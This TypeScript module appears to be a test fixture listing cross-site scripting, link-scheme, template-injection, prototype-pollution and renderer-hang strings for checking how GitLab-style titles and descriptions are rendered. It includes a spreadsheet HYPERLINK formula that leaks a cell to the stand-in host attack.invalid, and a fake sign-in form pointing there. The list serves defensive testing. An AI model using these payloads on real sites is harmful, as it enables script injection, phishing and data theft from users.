/** Where nobody has anything to do: an address that a page asks here is one that an attack has made it ask. */
export const ELSEWHERE = "https://attack.invalid";
/** Each that runs leaves its mark. */
export const MARK = "__attacked";

const RUN = `window.${MARK}=1`;
const DEEP = 400;

/**
 * Texts that somebody may write into a title, a description, a label or a name in GitLab, to have them run, load or hang on a page
 * of ours; each a single line, for a title is one.
 */
export const ATTACKS: readonly string[] = [
  `<script>${RUN}</script>`,
  `"><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${ELSEWHERE}/pixel.png">`,
  `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${MARK}=1</script>"></iframe>`,
  `<body onload="${RUN}">`,
  `<input autofocus onfocus="${RUN}">`,
  `<details open ontoggle="${RUN}">`,
  `<video><source onerror="${RUN}"></video>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}">`,
  `<a href="javascript:${RUN}">here</a>`,
  `<form action="${ELSEWHERE}"><button>Sign in</button></form>`,
  `<meta http-equiv="refresh" content="0;url=${ELSEWHERE}">`,
  `<base href="${ELSEWHERE}/">`,
  `<link rel=stylesheet href="${ELSEWHERE}/a.css">`,
  `<style>@import "${ELSEWHERE}/b.css";</style>`,
  `<object data="${ELSEWHERE}/c.swf"></object>`,
  `<template><img src=x onerror="${RUN}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `[here](javascript:${RUN})`,
  `[here](JaVaScRiPt:${RUN})`,
  `[here](data:text/html,<script>${RUN}</script>)`,
  `[here](vbscript:${RUN})`,
  `[here](//attack.invalid/x)`,
  `[here][a] and [a]: javascript:${RUN}`,
  `![picture](${ELSEWHERE}/d.png)`,
  `![picture](javascript:${RUN})`,
  `![picture](${ELSEWHERE}/e.png "onload='${RUN}'")`,
  `<javascript:${RUN}>`,
  `\`<script>${RUN}</script>\``,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;img src=x onerror=${RUN}&#62;`,
  `\${${RUN}} {{constructor.constructor('${RUN}')()}} #{${RUN}}`,
  `{"__proto__":{"${MARK}":1}}`,
  `=HYPERLINK("${ELSEWHERE}?"&A1;"click")`,
  `\u202Egnp.exe\u202C and \u2066hidden\u2069`,
  `Z${"\u0310".repeat(DEEP / 4)}algo`,
  `${"[".repeat(DEEP / 2)}a`,
  `${"*_".repeat(DEEP / 4)}a`,
  `${"> ".repeat(DEEP / 4)}deep`,
  `${"a".repeat(DEEP / 2)}!`,
  `#1 !1 @all ~"<img src=x onerror=${RUN}>" ${ELSEWHERE}/-/issues/1`,
];
